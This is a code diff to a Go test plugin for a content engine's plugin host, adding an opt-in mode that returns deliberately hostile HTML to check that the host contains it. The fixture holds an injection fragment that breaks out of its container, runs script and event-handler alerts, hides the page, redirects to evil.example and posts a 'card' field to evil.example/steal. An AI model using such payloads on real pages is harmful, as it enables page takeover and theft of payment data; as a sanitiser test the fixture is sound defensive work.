@@ -1,7 +1,8 @@
 // Command testplugin is a content type that exists to test the SDK and the
 // engine's plugin host over a real process: its events make it answer,
 // refuse, panic, hang or die on request, and TESTPLUGIN_PROTOCOL=N makes it
-// speak another protocol version.
+// speak another protocol version and TESTPLUGIN_HTML=hostile makes it
+// return HTML that tries to break out of its container.
 package main
 
 import (
@@ -47,7 +48,18 @@ func (echo) Validate(_ context.Context, req *sdk.ValidateRequest) (*sdk.Validate
 	return &sdk.ValidateResponse{}, nil
 }
 
+// Hostile is the HTML the plugin returns when TESTPLUGIN_HTML=hostile: a
+// fragment that tries to leave its container and take over the page.
+const Hostile = `<p id="inside">inside</p></div></section></main></body>` +
+	`<p id="escaped">escaped</p><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
+	`<script>alert(1)</script><style>body{display:none}</style>` +
+	`<form id="steal" action="https://evil.example/steal" method="post"><input name="card"></form>` +
+	`<img id="img" src="x.png" onerror="alert(2)"><a id="js" href="javascript:alert(3)">x</a><div><p id="open">unclosed`
+
 func (echo) Render(_ context.Context, req *sdk.RenderRequest) (*sdk.RenderResponse, error) {
+	if os.Getenv("TESTPLUGIN_HTML") == "hostile" {
+		return &sdk.RenderResponse{HTML: Hostile}, nil
+	}
 	return &sdk.RenderResponse{
 		HTML:        `<p>` + req.Object.Title + `: ` + string(req.State) + `</p><form data-lode-event="ping"><button>Ping</button></form>`,
 		Assets:      []string{"echo.css"},
@@ -82,7 +94,7 @@ func (echo) Handle(ctx context.Context, req *sdk.HandleRequest) (*sdk.HandleResp
 	return &sdk.HandleResponse{
 		State:        state,
 		Result:       &sdk.Result{Completion: sdk.Bool(true), Score: &sdk.Score{Raw: 1, Max: 1, Scaled: 1}},
-		FeedbackHTML: "<p>pong</p>",
+		FeedbackHTML: feedback(),
 		Statements: []sdk.StatementDraft{
 			{Verb: sdk.VerbInteracted, Activity: &sdk.Activity{IDSuffix: "/ping", Definition: json.RawMessage(`{"type":"` + sdk.ActivityInteraction + `"}`)},
 				Result: &sdk.Result{Response: string(req.Event.Data)}, ContextExtensions: json.RawMessage(`{"https://example.org/session":"` + req.SessionID + `"}`)},
@@ -121,4 +133,11 @@ func serveProtocol(v string) {
 		VersionedPlugins: map[int]goplugin.PluginSet{n: {plugin.PluginName: &plugin.GRPCPlugin{Impl: echo{}}}},
 		GRPCServer:       goplugin.DefaultGRPCServer,
 	})
+}
+
+func feedback() string {
+	if os.Getenv("TESTPLUGIN_HTML") == "hostile" {
+		return Hostile
+	}
+	return "<p>pong</p>"
 }
